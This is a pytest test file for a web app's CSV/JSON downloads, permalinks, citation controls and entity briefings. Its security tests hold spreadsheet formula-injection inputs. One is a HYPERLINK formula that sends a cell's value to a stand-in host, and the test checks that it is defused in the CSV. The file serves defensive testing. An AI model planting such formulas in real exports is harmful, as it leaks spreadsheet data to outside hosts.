"""Downloads and briefings over HTTP: the same data as the API, CSV that a spreadsheet cannot
run, buttons and permanent links that carry the view's filters, cite controls, and the
briefing page of an entity."""

from __future__ import annotations

import csv
import io
import re
from html import unescape
from urllib.parse import parse_qs, urlsplit

import pytest

from silkgraph import citation, tables

VIEWS = [
    ("/api/search", "/download/search", {"q": "Astana", "limit": 1000}),
    ("/api/search", "/download/search", {"q": "", "type": "country", "kind": "entities", "limit": 50}),
    ("/api/timeline", "/download/timeline", {"entity": "kazakhstan", "from": "2024", "limit": 1000}),
    ("/api/network", "/download/network", {"kind": "event", "limit": 30}),
    ("/api/figures", "/download/figures", {"subjects": "kazakhstan"}),
    ("/api/entities/kazakhstan", "/download/entities/kazakhstan", {}),
]


def rows_of(response) -> list[dict]:
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


@pytest.mark.parametrize(("api", "download", "params"), VIEWS)
def test_json_downloads_are_the_api_answer(client, api, download, params):
    expected = client.get(api, params=params)
    assert expected.status_code == 200
    got = client.get(download, params={**params, "format": "json"})
    assert got.status_code == 200
    assert got.headers["content-disposition"].startswith("attachment; filename=")
    assert got.json() == expected.json()


@pytest.mark.parametrize(("api", "download", "params"), VIEWS)
def test_csv_downloads_have_a_row_per_item_of_the_api_answer(client, api, download, params):
    answer = client.get(api, params=params).json()
    rows = rows_of(client.get(download, params=params))
    if "search" in api:
        assert len(rows) == len(answer["entities"]) + len(answer["documents"])
        assert [r["id"] for r in rows] == [e["id"] for e in answer["entities"]] + [d["id"] for d in answer["documents"]]
    elif "timeline" in api:
        assert [r["id"] for r in rows] == [e["id"] for e in answer["events"]]
    elif "network" in api:
        assert [(r["source"], r["target"]) for r in rows] == [(e["source"], e["target"]) for e in answer["edges"]]
        assert all(int(r["weight"]) == e["weight"] for r, e in zip(rows, answer["edges"]))
    elif "figures" in api:
        assert len(rows) == sum(len(s["series"]) for s in answer["figures"])
        assert all("kazakhstan" in r["subject_ids"].split("; ") for r in rows)
    else:
        kinds = [r["kind"] for r in rows]
        assert kinds.count("event") == len(answer["events"]) and kinds.count("fact") == len(answer["facts"])
        assert kinds.count("document") == len(answer["documents"])


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/download/timeline", {"from": "yesterday"}),
        ("/download/search", {"format": "xls"}),
        ("/download/network", {"limit": 0}),
        ("/download/figures", {"subjects": "<b>"}),
    ],
)
def test_bad_parameters_are_refused_like_the_api_s(client, path, params):
    assert client.get(path, params=params).status_code == 422


def test_an_unknown_entity_is_404(client):
    assert client.get("/download/entities/no-such-entity").status_code == 404


@pytest.mark.parametrize("cell", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=x", "\r=x"])
def test_a_cell_a_spreadsheet_would_run_is_defused(cell):
    assert tables.safe_cell(cell) == "'" + cell
    assert tables.safe_cell(-2) == -2, "numbers stay numbers"


def test_a_hostile_title_reaches_the_csv_defused(tmp_path, app_client, token, auth):
    article = {
        "id": "formula-title",
        "title": '=HYPERLINK("http://example.invalid/?"&A1,"open")',
        "text": "Kasachstan und Usbekistan unterzeichneten in Taschkent ein Abkommen über den Bau einer Eisenbahn.",
        "published": "2025-02-03",
        "language": "de",
    }
    with app_client(tmp_path / "formula.db", token=token) as c:
        assert c.post("/api/documents", json=article, headers=auth).status_code == 201
        rows = rows_of(c.get("/download/search", params={"q": "Eisenbahn", "kind": "documents"}))
    assert [r["name"] for r in rows] == ["'" + article["title"]]


# -- the controls on the pages ----------------------------------------------------------------


def _links(html: str, cls: str) -> list[str]:
    return [unescape(m) for m in re.findall(rf'<a class="{cls}" href="([^"]+)"', html)]


@pytest.mark.parametrize(
    ("page", "download"),
    [
        ("/search?q=Astana&type=country&from=2024", "/download/search"),
        ("/timeline?entity=kazakhstan&from=2024&to=2025", "/download/timeline"),
        ("/network?from=2024&kind=event&min_weight=2", "/download/network"),
        ("/figures?subjects=kazakhstan", "/download/figures"),
        ("/entities/kazakhstan", "/download/entities/kazakhstan"),
    ],
)
def test_each_view_offers_downloads_and_a_permanent_link_with_its_filters(client, page, download):
    html = client.get(page).text
    wanted = parse_qs(urlsplit(page).query)
    for cls, fmt in (("export-csv", "csv"), ("export-json", "json")):
        (link,) = _links(html, cls)
        parts = urlsplit(link)
        assert parts.path == download
        got = parse_qs(parts.query)
        assert got.pop("format") == [fmt]
        assert {k: v for k, v in got.items() if k in wanted} == wanted
        assert client.get(link).status_code == 200
    (permalink,) = _links(html, "permalink")
    assert parse_qs(urlsplit(permalink).query) == wanted and urlsplit(permalink).path == urlsplit(page).path


def test_timeline_events_carry_citation_text(client):
    html = client.get("/timeline", params={"entity": "kazakhstan"}).text
    texts = [unescape(t) for t in re.findall(r'class="cite-text"[^>]*value="([^"]*)"', html)]
    assert "<script>" not in html.split('class="cite-text"', 1)[1], "article titles stay escaped in the control"
    assert texts
    events = client.get("/api/timeline", params={"entity": "kazakhstan", "limit": 50}).json()["events"]
    assert len(texts) == len(events)
    for text, event in zip(texts, events):
        assert text.endswith(f"(Silkgraph event {event['id']})")
        first = client.get(f"/api/events/{event['id']}").json()["sources"][0]
        assert (first["title"] or first["doc_id"]).split()[0] in text


# -- briefings ---------------------------------------------------------------------------------


def test_the_entity_page_has_a_briefing_button_and_the_briefing_prints(client):
    assert 'action="/entities/kazakhstan/briefing"' in client.get("/entities/kazakhstan").text
    response = client.get("/entities/kazakhstan/briefing", params={"from": "2024", "to": "2025"})
    assert response.status_code == 200
    html = response.text
    for section in ("profile", "timeline", "figures", "quotes", "relations", "sources"):
        assert f'<section id="{section}">' in html
    assert "script-src 'self'" in response.headers["content-security-policy"]
    assert not re.search(r"<script(?![^>]*\bsrc=)", html), "no inline script"
    assert " style=" not in html and "<style" not in html, "no inline styles: the CSP forbids them"
    cited = set(re.findall(r'href="#source-(\d+)"', html))
    listed = set(re.findall(r'id="source-(\d+)"', html))
    assert cited and cited == listed


def test_a_briefing_by_alias_redirects_and_markdown_downloads(client):
    moved = client.get("/entities/Kasachstan/briefing", params={"from": "2024"}, follow_redirects=False)
    assert moved.status_code == 307 and moved.headers["location"].endswith("/entities/kazakhstan/briefing?from=2024")
    md = client.get("/entities/kazakhstan/briefing", params={"format": "md"})
    assert md.headers["content-type"].startswith("text/markdown")
    assert md.text.startswith("# Briefing: Kazakhstan") and "[^1]: " in md.text
    data = client.get("/entities/kazakhstan/briefing", params={"format": "json", "from": "2024"}).json()
    assert data["profile"]["id"] == "kazakhstan" and data["from"] == "2024"
    assert [c["number"] for c in data["citations"]] == list(range(1, len(data["citations"]) + 1))
    assert client.get("/entities/no-such-entity/briefing").status_code == 404
    assert client.get("/entities/kazakhstan/briefing", params={"from": "2025", "to": "2024"}).status_code == 400


def _cites(html: str) -> list[str]:
    return [unescape(t) for t in re.findall(r'class="cite-text"[^>]*value="([^"]*)"', html)]


def test_event_fact_and_article_pages_cite_their_item(client):
    event = client.get("/api/timeline", params={"entity": "kazakhstan", "limit": 1}).json()["events"][0]
    first = client.get(f"/api/events/{event['id']}").json()["sources"][0]
    (text,) = _cites(client.get(f"/events/{event['id']}").text)
    assert text.endswith(f"(Silkgraph event {event['id']})")
    assert first["published"] is None or citation.human_date(first["published"]) in text
    fact = client.get("/api/figures", params={"subjects": "kazakhstan"}).json()["figures"][0]["series"][0]["fact"]
    (text,) = _cites(client.get(f"/facts/{fact}").text)
    assert text.endswith(f"(Silkgraph fact {fact})")
    doc = client.get("/api/search", params={"q": "", "kind": "documents", "type": "country", "limit": 50}).json()
    with_url = next(d for d in doc["documents"] if d["url"])
    (text,) = _cites(client.get(f"/documents/{with_url['id']}").text)
    assert with_url["url"] in text and citation.outlet(with_url["url"]) in text
    assert text.endswith(f"(Silkgraph document {with_url['id']})")


@pytest.mark.browser
def test_the_briefing_downloads_as_pdf_where_chromium_prints(client):
    from silkgraph.briefing_render import chromium

    pypdf = pytest.importorskip("pypdf")
    pytest.importorskip("playwright.sync_api")
    if chromium() is None:
        pytest.skip("no Chromium to print with")
    response = client.get("/entities/kazakhstan/briefing", params={"format": "pdf", "from": "2024"})
    assert response.status_code == 200 and response.headers["content-type"] == "application/pdf"
    assert 'filename="briefing-kazakhstan.pdf"' in response.headers["content-disposition"]
    text = " ".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(response.content)).pages)
    assert "Kazakhstan" in text and "Sources" in text
